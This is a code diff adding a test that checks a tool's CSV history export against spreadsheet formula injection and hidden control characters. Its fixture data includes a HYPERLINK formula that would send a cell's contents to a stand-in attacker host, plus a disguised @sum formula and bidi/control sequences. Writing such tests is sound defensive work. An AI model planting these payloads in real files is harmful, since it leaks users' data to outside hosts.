@@ -78,6 +78,16 @@ def test_the_history_as_a_table(run: Run) -> None:
     assert run("history", "--message", "other").out == ""
 
 
+def test_no_cell_of_csv_is_a_formula_or_hides(run: Run, tmp_path: Path) -> None:
+    titles = ['=HYPERLINK("https://evil.example/?"&A1,"Read on")', "\t@sum(a1)", "\u202e\x9b", "Überprüfung"]
+    with FileLedger.of_user(tmp_path / "state") as ledger:
+        for number, title in enumerate(titles):
+            ledger.displayed(f"message-{number}", 1, "en", AT.replace(day=3, hour=number), title=title, because="")
+    rows = list(csv.DictReader(io.StringIO(run("history", "--csv", "--since", "2026-03-03T00:00Z").out)))
+
+    assert [row["title"] for row in rows] == [f"'{titles[0]}", "' @sum(a1)", r"\u202e\x9b", "Überprüfung"]
+
+
 def test_the_history_as_json_and_csv(run: Run) -> None:
     found = json.loads(run("history", "--json").out)
     assert found[0] == {
